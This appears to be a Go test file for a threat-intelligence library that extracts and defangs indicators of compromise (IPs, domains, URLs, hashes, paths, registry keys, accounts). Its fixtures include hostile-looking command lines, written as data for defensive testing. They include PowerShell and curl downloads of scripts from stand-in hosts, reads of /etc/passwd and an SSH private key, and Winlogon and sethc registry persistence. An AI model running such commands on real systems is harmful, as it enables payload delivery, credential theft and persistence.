package ioc

import (
	"fmt"
	"reflect"
	"strings"
	"testing"
)

// summary prints an indicator as "type value tag…".
func summary(list []IOC) []string {
	var out []string
	for _, i := range list {
		s := string(i.Type) + " " + i.Value
		for _, t := range i.Tags {
			s += " " + string(t)
		}
		out = append(out, s)
	}
	return out
}

type extractCase struct {
	name, in string
	want     []string // nil: no indicator
}

func runCases(t *testing.T, cases []extractCase) {
	t.Helper()
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			got := summary(Extract(tc.in))
			if !reflect.DeepEqual(got, tc.want) {
				t.Errorf("Extract(%q)\n got %q\nwant %q", tc.in, got, tc.want)
			}
		})
	}
}

func TestExtractIPv4(t *testing.T) {
	runCases(t, []extractCase{
		{"with port", "connect 8.8.8.8:53 ok", []string{"ipv4 8.8.8.8"}},
		{"sentence end", "seen from 1.2.3.4.", []string{"ipv4 1.2.3.4"}},
		{"cidr", "10.0.0.0/8", []string{"ipv4 10.0.0.0 private"}},
		{"version four parts", "OS 10.0.19041.1", nil},
		{"version with build", "build 6.1.7601.17514", nil},
		{"five parts", "1.2.3.4.5", nil},
		{"five parts leading", "x 10.1.1.1.2 y", nil},
		{"version prefix", "v1.2.3.4", nil},
		{"word suffix", "1.2.3.4a", nil},
		{"octet too big", "256.1.1.1", nil},
		{"leading zeros", "01.02.03.04", nil},
		{"three parts", "1.2.3", nil},
		{"documentation ranges", "192.0.2.10 198.51.100.1 203.0.113.99",
			[]string{"ipv4 192.0.2.10 documentation", "ipv4 198.51.100.1 documentation", "ipv4 203.0.113.99 documentation"}},
		{"private ranges", "10.1.1.1 172.16.5.4 192.168.1.1 172.32.0.1",
			[]string{"ipv4 10.1.1.1 private", "ipv4 172.16.5.4 private", "ipv4 192.168.1.1 private", "ipv4 172.32.0.1"}},
		{"special ranges", "127.0.0.1 169.254.1.1 0.0.0.0 224.0.0.251 100.64.1.1 255.255.255.255",
			[]string{"ipv4 127.0.0.1 loopback", "ipv4 169.254.1.1 link-local", "ipv4 0.0.0.0 unspecified",
				"ipv4 224.0.0.251 multicast", "ipv4 100.64.1.1 reserved", "ipv4 255.255.255.255 reserved"}},
		{"defanged", "1.2.3[.]4 and 5(.)6(.)7(.)8", []string{"ipv4 1.2.3.4", "ipv4 5.6.7.8"}},
		{"dedupe", "1.2.3.4 then 1.2.3.4", []string{"ipv4 1.2.3.4"}},
		{"in json", `{"ip":"45.33.32.156"}`, []string{"ipv4 45.33.32.156"}},
	})
}

func TestExtractIPv6(t *testing.T) {
	runCases(t, []extractCase{
		{"documentation", "2001:db8::1", []string{"ipv6 2001:db8::1 documentation"}},
		{"bracketed with port, normalised", "[2001:DB8:0:0::1]:443 and 2001:db8::1", []string{"ipv6 2001:db8::1 documentation"}},
		{"zone", "fe80::1%eth0", []string{"ipv6 fe80::1 link-local"}},
		{"loopback", "bind ::1 port", []string{"ipv6 ::1 loopback"}},
		{"global", "2606:4700:4700::1111", []string{"ipv6 2606:4700:4700::1111"}},
		{"full form", "2a00:1450:4001:0829:0000:0000:0000:200e", []string{"ipv6 2a00:1450:4001:829::200e"}},
		{"mapped v4", "::ffff:192.0.2.1", []string{"ipv4 192.0.2.1 documentation"}},
		{"unique local", "fd12:3456:789a::1", []string{"ipv6 fd12:3456:789a::1 private"}},
		{"time", "at 12:30:45 today", nil},
		{"timestamp", "2024-05-01T12:30:45.123Z", nil},
		{"mac", "00:1a:2b:3c:4d:5e", nil},
		{"c++ scope", "std::vector<int>", nil},
		{"bare double colon", "a :: b", nil},
	})
}

func TestExtractDomains(t *testing.T) {
	runCases(t, []extractCase{
		{"plain", "resolve evil.com now", []string{"domain evil.com"}},
		{"case folded", "EVIL.COM and evil.com", []string{"domain evil.com"}},
		{"second-level suffix", "sub.evil.co.uk", []string{"domain sub.evil.co.uk"}},
		{"bare suffix", "co.uk", nil},
		{"reserved example", "c2.attacker.example", []string{"domain c2.attacker.example reserved"}},
		{"idn", "xn--80ak6aa92e.com", []string{"domain xn--80ak6aa92e.com"}},
		{"punycode tld", "shop.xn--p1ai", []string{"domain shop.xn--p1ai"}},
		{"internal tld", "dc01.corp.local", nil},
		{"unknown tld", "foo.notatld", nil},
		{"dotnet namespace", "New-Object System.Net.WebClient", nil},
		{"powershell module", "Microsoft.PowerShell.Security", nil},
		{"variable property", "$client.download", nil},
		{"method call", "log.info(x)", nil},
		{"underscore label", "my_host.com", nil},
		{"leading dash", "--server=-evil.com", []string{"domain evil.com"}},
		{"defanged forms", "evil[.]com evil(.)net evil{.}org evil[dot]io bad [.] biz",
			[]string{"domain evil.com", "domain evil.net", "domain evil.org", "domain evil.io", "domain bad.biz"}},
		{"upper tld kept", "ASP.NET", []string{"domain asp.net"}},
		{"abbreviation", "e.g. i.e. U.S.", nil},
	})
}

func TestExtractURLs(t *testing.T) {
	runCases(t, []extractCase{
		{"defanged https", "hxxps://evil[.]com/a?b=1", []string{"url https://evil.com/a?b=1", "domain evil.com"}},
		{"ip host and port", "http://203.0.113.5:8080/x.ps1",
			[]string{"url http://203.0.113.5:8080/x.ps1 documentation", "ipv4 203.0.113.5 documentation"}},
		{"ftp reserved", "ftp://files.example/pub", []string{"url ftp://files.example/pub reserved", "domain files.example reserved"}},
		{"trailing punctuation", "(see https://evil.com/path).", []string{"url https://evil.com/path", "domain evil.com"}},
		{"balanced parens kept", "https://en.example/wiki/A_(b)", []string{"url https://en.example/wiki/A_(b) reserved", "domain en.example reserved"}},
		{"ipv6 host", "https://[2001:db8::5]:8443/x", []string{"url https://[2001:db8::5]:8443/x documentation", "ipv6 2001:db8::5 documentation"}},
		{"defanged separator", "hxxp[://]evil.com/p", []string{"url http://evil.com/p", "domain evil.com"}},
		{"defanged colon", "hxxps[:]//evil.com", []string{"url https://evil.com", "domain evil.com"}},
		{"userinfo is not an account", "https://user@evil.com/", []string{"url https://user@evil.com/", "domain evil.com"}},
		{"at in path is not an account", "https://social.example/@alice", []string{"url https://social.example/@alice reserved", "domain social.example reserved"}},
		{"scheme and host folded", "HTTP://EVIL.COM/Path", []string{"url http://evil.com/Path", "domain evil.com"}},
		{"localhost", "http://localhost:8080/x", []string{"url http://localhost:8080/x loopback"}},
		{"single label host", "http://intranet/x", nil},
		{"path not a file", "https://evil.com/payload.exe", []string{"url https://evil.com/payload.exe", "domain evil.com"}},
	})
}

func TestExtractHashes(t *testing.T) {
	md5 := "d41d8cd98f00b204e9800998ecf8427e"
	sha1 := "da39a3ee5e6b4b0d3255bfef95601890afd80709"
	sha256 := "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
	runCases(t, []extractCase{
		{"md5", "md5=" + md5, []string{"md5 " + md5}},
		{"sha1", sha1, []string{"sha1 " + sha1}},
		{"sha256 upper", strings.ToUpper(sha256), []string{"sha256 " + sha256}},
		{"all three", md5 + "," + sha1 + ";" + sha256, []string{"md5 " + md5, "sha1 " + sha1, "sha256 " + sha256}},
		{"33 digits", md5 + "a", nil},
		{"65 digits", sha256 + "0", nil},
		{"inside a longer run", "ab" + sha256 + "cd", nil},
		{"md5 prefix of sha1 run", sha1[:32] + sha1[32:], []string{"sha1 " + sha1}},
		{"glued to a word", "x" + md5, nil},
		{"all zero", strings.Repeat("0", 64), nil},
		{"one repeated digit", strings.Repeat("f", 32), nil},
		{"decimal only", strings.Repeat("1234567890", 4), nil},
		{"guid", "6f9619ff-8b86-d011-b42d-00c04fc964ff", nil},
	})
}

func TestExtractPaths(t *testing.T) {
	runCases(t, []extractCase{
		{"drive", `C:\Users\Public\evil.exe`, []string{`file_path C:\Users\Public\evil.exe`}},
		{"quoted with spaces", `"C:\Program Files\App\app.exe" -arg 1`, []string{`file_path C:\Program Files\App\app.exe`}},
		{"unquoted directory with spaces", `run C:\Program Files (x86)\App\a.exe now`, []string{`file_path C:\Program Files (x86)\App\a.exe`}},
		{"whole value with spaces in the name", `C:\Users\bob\Desktop\Q3 results.xlsx`, []string{`file_path C:\Users\bob\Desktop\Q3 results.xlsx`}},
		{"command line", `C:\Windows\System32\cmd.exe /c type C:\Temp\x.txt`,
			[]string{`file_path C:\Windows\System32\cmd.exe`, `file_path C:\Temp\x.txt`}},
		{"powershell switches", `C:\Windows\powershell.exe -nop -c iex foo\bar.ps1`, []string{`file_path C:\Windows\powershell.exe`}},
		{"unc", `\\fileserver\share\doc.docx`, []string{`file_path \\fileserver\share\doc.docx unc`}},
		{"unc with domain host", `\\files.evil.com\s\x.dll`, []string{`file_path \\files.evil.com\s\x.dll unc`, "domain files.evil.com"}},
		{"unc with ip host", `net use \\10.1.2.3\c$`, []string{`file_path \\10.1.2.3\c$ unc private`, "ipv4 10.1.2.3 private"}},
		{"environment variable", `%APPDATA%\Microsoft\evil.exe`, []string{`file_path %APPDATA%\Microsoft\evil.exe`}},
		{"device path", `\Device\HarddiskVolume3\Windows\System32\svchost.exe`, []string{`file_path \Device\HarddiskVolume3\Windows\System32\svchost.exe`}},
		{"forward slashes", `C:/Users/x/a.dll`, []string{`file_path C:/Users/x/a.dll`}},
		{"windows case folded", `c:\windows\x.exe and C:\Windows\X.EXE`, []string{`file_path c:\windows\x.exe`}},
		{"trailing punctuation", `wrote C:\Temp\out.log.`, []string{`file_path C:\Temp\out.log`}},
		{"unix", "chmod +x /tmp/x.sh && cat /etc/passwd", []string{"file_path /tmp/x.sh", "file_path /etc/passwd"}},
		{"home", "cat ~/.ssh/id_rsa", []string{"file_path ~/.ssh/id_rsa"}},
		{"unix case kept", "/tmp/Abc /tmp/abc", []string{"file_path /tmp/Abc", "file_path /tmp/abc"}},
		{"switches", "cmd /c dir /S/Q", nil},
		{"and/or", "and/or", nil},
		{"date", "on 1/2/2024", nil},
	})
}

func TestExtractRegistry(t *testing.T) {
	runCases(t, []extractCase{
		{"short hive", `HKLM\Software\Microsoft\Windows\CurrentVersion\Run`, []string{`registry_key HKLM\Software\Microsoft\Windows\CurrentVersion\Run`}},
		{"long and short are one key", `HKEY_LOCAL_MACHINE\SOFTWARE\X and HKLM\Software\x`, []string{`registry_key HKEY_LOCAL_MACHINE\SOFTWARE\X`}},
		{"kernel form", `\REGISTRY\MACHINE\SYSTEM\CurrentControlSet\Services\evil`, []string{`registry_key \REGISTRY\MACHINE\SYSTEM\CurrentControlSet\Services\evil`}},
		{"powershell drive", `Get-ItemProperty HKCU:\Software\x`, []string{`registry_key HKCU\Software\x`}},
		{"quoted with spaces", `reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon" /v Shell /d evil.exe`,
			[]string{`registry_key HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon`, "file_name evil.exe"}},
		{"whole value with spaces", `HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe`,
			[]string{`registry_key HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe`}},
		{"unquoted stops at switch", `reg add HKCU\Software\Run /v x`, []string{`registry_key HKCU\Software\Run`}},
		{"bare hive", "HKLM", nil},
		{"hive as part of a word", "XHKLM\\x", []string{"account XHKLM\\x"}},
		{"relative path is not an account", `tools\x.exe`, nil},
	})
}

func TestExtractAccounts(t *testing.T) {
	runCases(t, []extractCase{
		{"domain user", `logon CONTOSO\alice ok`, []string{`account CONTOSO\alice`}},
		{"after switch", `/user:CONTOSO\alice`, []string{`account CONTOSO\alice`}},
		{"case folded", `CONTOSO\Alice contoso\alice`, []string{`account CONTOSO\Alice`}},
		{"upn", "alice@contoso.com", []string{"account alice@contoso.com upn"}},
		{"upn reserved", "mallory@attacker.example", []string{"account mallory@attacker.example upn reserved"}},
		{"upn internal", "bob@corp.local", []string{"account bob@corp.local upn internal"}},
		{"builtin", `NT AUTHORITY\SYSTEM and NT AUTHORITY\NETWORK SERVICE`,
			[]string{`account NT AUTHORITY\SYSTEM builtin`, `account NT AUTHORITY\NETWORK SERVICE builtin`}},
		{"path is not an account", `C:\Users\alice`, []string{`file_path C:\Users\alice`}},
		{"relative path is not an account", `dir tools\bin\x`, nil},
		{"image name is not an upn", "icon@2x.png", nil},
		{"numeric user", `CONTOSO\1234`, nil},
	})
}

func TestExtractFilesAndAmbiguity(t *testing.T) {
	runCases(t, []extractCase{
		{"exe is a file", "file.exe", []string{"file_name file.exe"}},
		{"dotted file", "System.Management.Automation.dll", []string{"file_name System.Management.Automation.dll"}},
		{"zip tld alone is a file", "evil.zip", []string{"file_name evil.zip also-domain"}},
		{"path component wins", "unzip /tmp/evil.zip; curl evil.zip", []string{"file_path /tmp/evil.zip", "file_name evil.zip also-domain"}},
		{"mov", "clip.mov", []string{"file_name clip.mov also-domain"}},
		{"script", "bash install.sh", []string{"file_name install.sh also-domain"}},
		{"com stays a domain", "example.com", []string{"domain example.com"}},
		{"unknown extension", "notes.xyzzy", nil},
	})
	t.Run("network column makes it a domain", func(t *testing.T) {
		got := summary(ExtractIn("evil.zip", "RemoteUrl"))
		if want := []string{"domain evil.zip"}; !reflect.DeepEqual(got, want) {
			t.Errorf("got %q, want %q", got, want)
		}
	})
}

func TestExtractOrderAndMix(t *testing.T) {
	in := `"C:\Windows\System32\cmd.exe" /c powershell -c "iwr hxxp://203.0.113.9/p.ps1 -OutFile $env:TEMP\p.ps1" & ping c2[.]attacker[.]example`
	want := []string{
		`file_path C:\Windows\System32\cmd.exe`,
		"url http://203.0.113.9/p.ps1 documentation",
		"ipv4 203.0.113.9 documentation",
		`file_path $env:TEMP\p.ps1`,
		"domain c2.attacker.example reserved",
	}
	if got := summary(Extract(in)); !reflect.DeepEqual(got, want) {
		t.Errorf("got %q\nwant %q", got, want)
	}
}

func TestDefangRefang(t *testing.T) {
	cases := []struct {
		ioc  IOC
		want string
	}{
		{IOC{Type: URL, Value: "https://evil.com/a.b?c=d.e"}, "hxxps://evil[.]com/a.b?c=d.e"},
		{IOC{Type: URL, Value: "http://203.0.113.5:8080/x"}, "hxxp://203[.]0[.]113[.]5:8080/x"},
		{IOC{Type: URL, Value: "ftp://files.example"}, "fxp://files[.]example"},
		{IOC{Type: URL, Value: "https://[2001:db8::5]:8443/"}, "hxxps://[2001[:]db8[:][:]5][:]8443/"},
		{IOC{Type: Domain, Value: "c2.evil.com"}, "c2[.]evil[.]com"},
		{IOC{Type: IPv4, Value: "1.2.3.4"}, "1[.]2[.]3[.]4"},
		{IOC{Type: IPv6, Value: "2001:db8::1"}, "2001[:]db8[:][:]1"},
		{IOC{Type: Account, Value: "alice@evil.com"}, "alice@evil[.]com"},
		{IOC{Type: Account, Value: `CONTOSO\alice`}, `CONTOSO\alice`},
		{IOC{Type: FileName, Value: "evil.zip", Tags: []Tag{TagAlsoDomain}}, "evil[.]zip"},
		{IOC{Type: FileName, Value: "evil.exe"}, "evil.exe"},
		{IOC{Type: FilePath, Value: `C:\x\evil.exe`}, `C:\x\evil.exe`},
		{IOC{Type: SHA1, Value: "da39a3ee5e6b4b0d3255bfef95601890afd80709"}, "da39a3ee5e6b4b0d3255bfef95601890afd80709"},
	}
	for _, tc := range cases {
		got := Defang(tc.ioc)
		if got != tc.want {
			t.Errorf("Defang(%s %s) = %q, want %q", tc.ioc.Type, tc.ioc.Value, got, tc.want)
		}
		if tc.ioc.Type == URL || tc.ioc.Type == Domain || tc.ioc.Type == IPv4 {
			if back := Refang(got); back != tc.ioc.Value {
				t.Errorf("Refang(%q) = %q, want %q", got, back, tc.ioc.Value)
			}
		}
	}
	for in, want := range map[string]string{
		"hXXps://a[.]b":      "https://a.b",
		"hxxp[:]//a{.}b":     "http://a.b",
		"a[DOT]b (dot) c":    "a.b.c",
		"x[@]y[.]z":          "x@y.z",
		"nothing to do here": "nothing to do here",
		"array[0].field":     "array[0].field",
	} {
		if got := Refang(in); got != want {
			t.Errorf("Refang(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestExtractedIOCsCarryDefangedForm(t *testing.T) {
	for _, i := range Extract("hxxps://evil[.]com/x 8.8.8.8") {
		if i.Defanged != Defang(i) {
			t.Errorf("%s: Defanged %q, want %q", i.Value, i.Defanged, Defang(i))
		}
		if strings.Contains(i.Defanged, "evil.com") || strings.Contains(i.Defanged, "8.8.8.8") {
			t.Errorf("%s printed live: %q", i.Value, i.Defanged)
		}
	}
}

func TestKey(t *testing.T) {
	same := [][2]IOC{
		{{Type: RegistryKey, Value: `HKLM\Software\X`}, {Type: RegistryKey, Value: `\REGISTRY\MACHINE\SOFTWARE\x`}},
		{{Type: RegistryKey, Value: `HKCU\A`}, {Type: RegistryKey, Value: `HKEY_CURRENT_USER\a`}},
		{{Type: IPv6, Value: "2001:DB8:0::1"}, {Type: IPv6, Value: "2001:db8::1"}},
		{{Type: URL, Value: "HTTPS://Evil.com/A"}, {Type: URL, Value: "https://evil.com/A"}},
		{{Type: MD5, Value: "D41D8CD98F00B204E9800998ECF8427E"}, {Type: MD5, Value: "d41d8cd98f00b204e9800998ecf8427e"}},
	}
	for _, p := range same {
		if Key(p[0]) != Key(p[1]) {
			t.Errorf("%v and %v should share a key", p[0].Value, p[1].Value)
		}
	}
	differ := [][2]IOC{
		{{Type: URL, Value: "https://evil.com/A"}, {Type: URL, Value: "https://evil.com/a"}},
		{{Type: FilePath, Value: "/tmp/A"}, {Type: FilePath, Value: "/tmp/a"}},
		{{Type: Domain, Value: "a.com"}, {Type: FileName, Value: "a.com"}},
	}
	for _, p := range differ {
		if Key(p[0]) == Key(p[1]) {
			t.Errorf("%v and %v should differ", p[0], p[1])
		}
	}
}

func TestSuffixes(t *testing.T) {
	for name, want := range map[string]bool{"com": true, "co.uk": true, "zip": true, "xn--p1ai": true,
		"exe": false, "local": false, "example": false, "uk.co": false} {
		if got := IsPublicSuffix(name); got != want {
			t.Errorf("IsPublicSuffix(%q) = %v", name, got)
		}
	}
}

func ExampleExtract() {
	for _, i := range Extract(`powershell iwr hxxp://198.51.100.7/a.ps1 -OutFile C:\Users\Public\a.ps1`) {
		fmt.Println(i.Type, i.Defanged, i.Tags)
	}
	// Output:
	// url hxxp://198[.]51[.]100[.]7/a.ps1 [documentation]
	// ipv4 198[.]51[.]100[.]7 [documentation]
	// file_path C:\Users\Public\a.ps1 []
}

func ExampleDefang() {
	for _, i := range Extract(`curl hxxp://198.51.100.7/a.sh -o /tmp/a.sh`) {
		fmt.Println(i.Type, i.Defanged, i.Tags)
	}
	// Output:
	// url hxxp://198[.]51[.]100[.]7/a.sh [documentation]
	// ipv4 198[.]51[.]100[.]7 [documentation]
	// file_path /tmp/a.sh []
}
